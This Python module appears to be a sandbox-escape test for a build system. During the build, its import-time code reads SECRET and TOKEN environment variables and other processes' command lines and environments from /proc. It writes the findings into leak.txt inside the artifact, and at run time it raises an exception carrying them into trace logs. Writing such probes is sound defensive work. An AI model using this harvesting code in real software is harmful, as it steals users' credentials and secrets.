"""Class: build-time code / leaks (the host's /proc and environment, read at build, kept in the
artifact, printed at run time).

Tries, while the build imports the module: collect the build's own environment and every other
process's environment and command line from /proc (the user's exported secrets, a secret on a
command line), and write them into a file inside its build directory, which becomes part of the
published artifact. At run time it reads that file next to itself and raises with its content, so
whatever it found lands in the trace log. Expect: no secret and no other process's command line
in the trace.
"""
import os

_AT_BUILD = bool(os.environ.get("FIB_BUILD_PARENT_PID"))  # the build child has it, a runner does not
_found = []
for k, v in os.environ.items():
    if "SECRET" in k or "TOKEN" in k:
        _found.append(f"env {k}={v}")
try:
    _pids = [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()] if _AT_BUILD else []
except OSError as e:
    _pids = []
    _found.append(f"denied: /proc: {type(e).__name__}")
_n_cmd = _n_env = 0
for _p in _pids:
    for _name in ("cmdline", "environ"):
        try:
            with open(f"/proc/{_p}/{_name}", "rb") as f:
                data = f.read().replace(b"\0", b" ").decode("utf-8", "replace")
        except OSError:
            continue
        if _name == "cmdline":
            _n_cmd += 1
        else:
            _n_env += 1
        if "fib-breach" in data or "SECRET" in data:
            _found.append(f"/proc/{_p}/{_name}: {data[:300]}")
_found.append(f"read {_n_cmd} cmdlines and {_n_env} environments of other processes")
if _AT_BUILD:
    with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "leak.txt"), "w") as f:
        f.write("\n".join(_found))


def run(x, weight, eps):
    with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "leak.txt")) as f:
        raise RuntimeError("LEAKED AT BUILD:\n" + f.read())
